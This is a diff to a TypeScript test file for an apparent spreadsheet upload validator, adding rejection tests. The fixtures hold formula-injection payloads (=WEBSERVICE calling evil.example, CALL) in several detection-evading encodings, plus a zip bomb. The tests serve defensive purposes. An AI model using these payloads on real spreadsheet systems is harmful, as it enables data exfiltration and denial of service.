@@ -189,7 +189,7 @@ const zip = Buffer.from(zipSync({ 'a.csv': Buffer.from(csv) }));
 const longTable = `a,b\n${'1,x\n'.repeat(29_999)}1,"=WEBSERVICE(""https://evil.example/"")"\n`;
 
 /** @param stored formula of the first cell, which has a stored value */
-function workbook(rows: number, stored?: string, more: Record<string, string> = {}): Buffer {
+function workbook(rows: number, stored?: string, more: Record<string, string | Buffer> = {}): Buffer {
   const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`;
   const formula = '=WEBSERVICE(&quot;https://evil.example/&quot;)';
   const lines = Array.from({ length: rows }, (_, at) => {
@@ -208,7 +208,9 @@ function workbook(rows: number, stored?: string, more: Record<string, string> = 
     'xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}"><sheetData><row r="1">${text('A1', 'a')}${text('B1', 'b')}</row>${lines.join('')}</sheetData></worksheet>`,
     ...more,
   };
-  return Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, xml]) => [name, Buffer.from(xml)]))));
+  return Buffer.from(
+    zipSync(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, Buffer.from(part)]))),
+  );
 }
 
 const refused: [string, () => Buffer | string, number, RegExp][] = [
@@ -271,6 +273,38 @@ const refused: [string, () => Buffer | string, number, RegExp][] = [
     () => workbook(3, '1+_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;B2)'),
     422,
     /\(=WEBSERVICE\(…\)/u,
+  ],
+  ['a formula in entities', () => workbook(3, '&#87;EB&#x53;ERVICE(A1)'), 422, /\(=WEBSERVICE\(…\)/u],
+  ['a formula in CDATA', () => workbook(3, '<![CDATA[WEBSERVICE(A1)]]>'), 422, /\(=WEBSERVICE\(…\)/u],
+  [
+    'a formula behind escaped filler',
+    () => workbook(3, `"${'&quot;'.repeat(4_000)}"&amp;WEBSERVICE(A1)`),
+    422,
+    /\(=WEBSERVICE\(…\)/u,
+  ],
+  [
+    'a formula in a sheet of UTF-16 in another folder',
+    () =>
+      workbook(3, '1+1', {
+        'data/s.xml': Buffer.from('<worksheet><c><f>WEBSERVICE(A1)</f></c></worksheet>', 'utf16le'),
+      }),
+    422,
+    /\(=WEBSERVICE\(…\)/u,
+  ],
+  [
+    'a named formula',
+    () =>
+      workbook(3, 'X', {
+        'xl/names.xml': '<definedNames><definedName name="X">CALL("a","b")</definedName></definedNames>',
+      }),
+    422,
+    /\(=CALL\(…\)/u,
+  ],
+  [
+    'a workbook that grows 400 times',
+    () => workbook(3, '1+1', Object.fromEntries(['1', '2', '3'].map((one) => [`xl/${one}.xml`, ' '.repeat(2 ** 25)]))),
+    422,
+    /larger when unpacked/u,
   ],
   [
     'a link to another program',
